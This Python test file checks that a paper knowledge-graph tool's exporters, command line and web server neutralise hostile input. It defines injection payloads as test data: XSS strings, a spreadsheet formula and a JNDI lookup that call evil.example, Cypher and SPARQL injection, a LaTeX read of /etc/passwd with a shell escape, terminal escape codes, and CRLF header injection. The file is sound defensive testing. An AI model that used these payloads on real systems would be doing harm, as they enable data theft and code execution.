"""One record from a stranger who wishes us ill goes through every output, and none obeys it."""

import csv
import json
import re
import shutil
import subprocess
import warnings
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pyarrow.parquet as pq
import pyoxigraph as ox
import pytest

from kg.building import build, export
from kg.exporters import EXPORTERS
from kg.serve.app import create_app
from kg.serve.backend import Backend, Limits

with warnings.catch_warnings():  # newer versions of Starlette would have a successor of httpx
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"free")'
CYPHER = "'}) DETACH DELETE n //"
SPARQL = '" . } ; DROP ALL ; # \\" \\'
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x9b31m"
TURNED = "\u202etxet\u202c\u2066\u200f"
LATEX = "\\input{/etc/passwd} $\\immediate\\write18{ls}$"
TEMPLATE = "{{7*7}} ${jndi:ldap://evil.example} {{data}} {% raw %}"
ALL = " ".join(
    (SCRIPT, IMAGE, CYPHER, SPARQL, TERMINAL, TURNED, LATEX, TEMPLATE, "NUL\0here", "]]>", "--> </textarea>")
)

PAPERS: list[dict[str, Any]] = [
    {
        "title": f"GateNet {ALL}",
        "abstract": f"We propose GateNet, an LSTM. {ALL} It beats ResNet-50 on ImageNet. Code: https://github.com/a/b. {ALL}",
        "authors": [f"{FORMULA}", SCRIPT, "+1-800", "@SUM(A1)", "-2+3", "\t=1+1"],
        "venue": f"{IMAGE} {TURNED}",
        "url": "javascript:alert(3)//http://",
        "id": f"x{SCRIPT}",
        "doi": f'10.1/"><script>{CYPHER}',
        "arxiv_id": f"2509.00001{SCRIPT}",
        "keywords": [FORMULA, SCRIPT],
        "code": ["data:text/html,<script>alert(4)</script>", "javascript:alert(5)", f"https://github.com/x/{SCRIPT}"],
        "date": "2025-09-18",
    },
    {"title": FORMULA, "abstract": "=1+1 We use GateNet with an LSTM and ResNet-50 on ImageNet.", "date": "2025-09-17"},
    {
        "title": "GateNet " + "and a very long title " * 455,
        "abstract": "We use GateNet.",
        "url": "data:text/html;base64,PHNjcmlwdD4=",
    },
    {"title": f"{TURNED} evil {TERMINAL}", "abstract": f"A {SCRIPT}Net {SCRIPT} (LSTM) by {IMAGE}. We use LSTM."},
    *({"title": f"Plain paper {n}", "abstract": "We train a ResNet-50 on CIFAR-10."} for n in range(6)),
]  # fmt: skip
FORMATS = tuple(EXPORTERS)
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
DIRECTION = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile papers, built and exported in every format."""
    place = tmp_path_factory.mktemp("hostile")
    source = place / "in.jsonl"
    source.write_text("".join(json.dumps(paper) + "\n" for paper in PAPERS), encoding="utf-8")
    build([str(source)], place / "out", formats=("ttl", "graphml", "html"))
    export(place / "out", FORMATS)
    return place / "out"


class Seen(HTMLParser):
    """The elements of a page with their attributes, and the text outside scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def check_page(page: str, scripts: int) -> None:
    """A page has the scripts that it had before anyone wrote a paper, no handlers, and links to http(s) or itself."""
    seen = Seen(page)
    assert sum(tag == "script" for tag, _ in seen.elements) == scripts
    assert not [tag for tag, _ in seen.elements if tag in ("iframe", "object", "embed", "img", "base")]
    for _, attributes in seen.elements:
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("href", "src", "action"):
            address = attributes.get(name) or ""
            assert re.match(r"https?://|/(?!/)|[?#]|$|data:,$", address), address


@pytest.mark.parametrize("name", ["graph.ttl", "graph.nt", "evidence.ttl"])
def test_rdf_holds_the_text_as_literals_and_iris_are_iris(name: str, built: Path) -> None:
    quads = list(ox.parse(path=str(built / name)))

    titles = {q.object.value for q in quads if q.predicate.value == "http://purl.org/dc/terms/title"}
    assert name.startswith("evidence") or any(SCRIPT in t and CYPHER in t for t in titles)
    iris = {t.value for q in quads for t in (q.subject, q.object) if isinstance(t, ox.NamedNode)}
    assert not [iri for iri in iris if not re.fullmatch(r"(https?://|urn:)[^\s<>\"{}|\\^`]+", iri)]
    assert not OBEYED.search((built / name).read_text(encoding="utf-8"))


def test_json_ld_says_the_same_as_turtle(built: Path) -> None:
    json.loads((built / "graph.jsonld").read_text(encoding="utf-8"))
    from_json = {str(q.object) for q in ox.parse(path=str(built / "graph.jsonld"), format=ox.RdfFormat.JSON_LD)}
    from_turtle = {str(q.object) for q in ox.parse(path=str(built / "graph.ttl"))}

    assert {text for text in from_turtle if SCRIPT[:8] in text} <= from_json


@pytest.mark.parametrize("name", ["graph.graphml", "graph.gexf"])
def test_xml_is_well_formed_and_has_no_elements_of_strangers(name: str, built: Path) -> None:
    found = {element.tag.rpartition("}")[2].lower() for element in ElementTree.parse(built / name).iter()}

    assert not found & {"script", "img", "textarea"}
    if name.endswith("graphml"):
        labels = [label for _, label in nx.read_graphml(built / name).nodes(data="label")]
        assert any(SCRIPT in label for label in labels)


def test_the_page_runs_nothing_and_leads_nowhere_but_to_the_web(built: Path) -> None:
    page = (built / "graph.html").read_text(encoding="utf-8")
    plain = built.parent / "plain"
    build([str(_plain(built.parent))], plain, formats=("html",))
    scripts = sum(tag == "script" for tag, _ in Seen((plain / "graph.html").read_text(encoding="utf-8")).elements)

    check_page(page, scripts)
    [data] = re.findall(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
    told = json.loads(data)
    links = [url for facts in told["details"].values() for _, url in facts.get("links", [])]
    assert all(url.startswith(("https://", "http://")) for url in links)
    codes = [node["id"] for node in told["nodes"] if node.get("kind") == "Code"]
    assert all(code.startswith(("https://", "http://")) for code in codes)


def _plain(folder: Path) -> Path:
    path = folder / "plain.jsonl"
    path.write_text("".join(json.dumps(paper) + "\n" for paper in PAPERS[-6:]), encoding="utf-8")
    return path


def test_no_cell_of_a_table_is_a_formula(built: Path) -> None:
    cells = []
    for path in sorted((built / "csv").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]

    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if re.match(r"\s*[=+@\t\r]|-\D", cell)]


def test_parquet_keeps_texts_as_they_are(built: Path) -> None:
    assert FORMULA in pq.read_table(built / "parquet" / "papers.parquet").column("title").to_pylist()


def test_neo4j_files_have_as_many_rows_as_there_are_nodes(built: Path) -> None:
    with (built / "neo4j-csv" / "Paper.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))

    assert len(rows) == len(PAPERS)
    assert len({len(row) for row in rows}) == 1
    assert any(CYPHER in cell for row in rows for cell in row)
    script = (built / "neo4j-csv" / "import.sh").read_text(encoding="utf-8")
    assert "GateNet" not in script
    assert subprocess.run(["sh", "-n", built / "neo4j-csv" / "import.sh"], check=False).returncode == 0


TOLD = [
    ("show", "GateNet", "-g"),
    ("show", "Plain paper 0", "-g"),
    ("similar", f"GateNet {SCRIPT}", "-g"),
    ("similar", FORMULA, "-g"),
    ("show", TERMINAL, "-g"),
    ("stats",),
    ("report",),
    ("query", "SELECT * { ?p dcterms:title ?t ; dcterms:creator ?c }", "--format", "table", "-g"),
    ("query", "papers-using", "--concept", TERMINAL, "-g"),
    ("remove", f"no such paper {TERMINAL}{TURNED}", "-g"),
]


@pytest.mark.parametrize("words", TOLD, ids=lambda words: f"{words[0]} {words[1:2]!a}"[:30])
def test_a_terminal_obeys_no_title(words: tuple[str, ...], kg: Callable[..., Any], built: Path) -> None:
    done = kg(*words, built)

    said = done.out + done.err
    assert said.strip()
    assert "internal error" not in said
    assert not OBEYED.search(said.replace("\n", ""))
    assert not DIRECTION.search(said)


def test_a_build_tells_of_its_strongest_links_without_codes(
    kg: Callable[..., Any], tmp_path: Path, built: Path
) -> None:
    done = kg("build", built.parent / "in.jsonl", "-o", tmp_path, "--formats", "ttl")

    assert "Strongest links" in done.out
    assert not OBEYED.search((done.out + done.err).replace("\n", ""))
    assert not DIRECTION.search(done.out + done.err)


def test_a_report_makes_links_of_web_addresses_alone_and_shows_markup_as_text(
    kg: Callable[..., Any], built: Path
) -> None:
    page = kg("report", built, "--from", "2025-09-01", "--to", "2025-09-30").out

    assert "GateNet" in page
    assert not re.search(r"\]\((?!<?https?://)", page)
    assert "<script" not in page
    assert "<img" not in page


@pytest.fixture(scope="module")
def client(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The server of the hostile papers."""
    folder = tmp_path_factory.mktemp("served")
    for name in ("graph.ttl", "evidence.ttl"):
        shutil.copy(built / name, folder)
    backend = Backend(folder, Limits(timeout=10, workers=2))
    with TestClient(create_app(backend)) as found:
        yield found
    backend.close()


def test_pages_of_the_server_run_nothing(client: TestClient) -> None:
    query = "SELECT ?n { ?n a ?t . FILTER(?t IN (schema:ScholarlyArticle, skos:Concept, kg:Code)) }"
    found = client.get("/sparql", params={"query": query}, headers={"accept": "application/sparql-results+json"}).json()
    nodes = [row["n"]["value"] for row in found["results"]["bindings"]]
    base = "https://w3id.org/paper-kg/id/"
    pages = [iri.removeprefix(base) for iri in nodes if iri.startswith(base)]
    plain = next(page for page in pages if page.startswith("paper/plain-paper-0"))
    scripts = client.get(f"/id/{plain}", headers={"accept": "text/html"}).text.count("<script")

    assert len(pages) > len(PAPERS)
    for page in pages:
        answer = client.get(f"/id/{page}", headers={"accept": "text/html"})
        assert answer.status_code == 200, page
        check_page(answer.text, scripts)


@pytest.mark.parametrize(
    "text", ["GateNet", SCRIPT, FORMULA, SPARQL, CYPHER, TERMINAL, "\0", "\ud83d", "%", "x" * 5000]
)
def test_the_api_finds_texts_and_runs_none(text: str, client: TestClient) -> None:
    sent = text.encode("utf-8", "replace").decode()
    for path in ("/api/search", "/api/queries/papers-using"):
        answer = client.get(path, params={"q": sent} if path.endswith("search") else {"concept": sent})

        assert answer.status_code in (200, 400, 404, 414)
        assert not answer.headers["content-type"].startswith("text/html")
        assert answer.headers["x-content-type-options"] == "nosniff"
    still = client.get("/sparql", params={"query": "ASK { ?s a schema:ScholarlyArticle }"})
    assert still.json()["boolean"] is True


@pytest.mark.parametrize("path", ["/id/", "/api/node/", "/api/neighbours/"])
def test_what_the_graph_does_not_know_is_told_as_plain_text(path: str, client: TestClient) -> None:
    for tail in (
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%22%3E%3Cimg%20src=x%3E",
        "a%0d%0aSet-Cookie:%20x=1",
        "%00",
        "..%2f..",
    ):
        answer = client.get(path + tail, headers={"accept": "text/html"})

        assert answer.status_code in (200, 404)
        assert "set-cookie" not in answer.headers
        assert "text/html" not in answer.headers["content-type"] or "<script>alert" not in answer.text
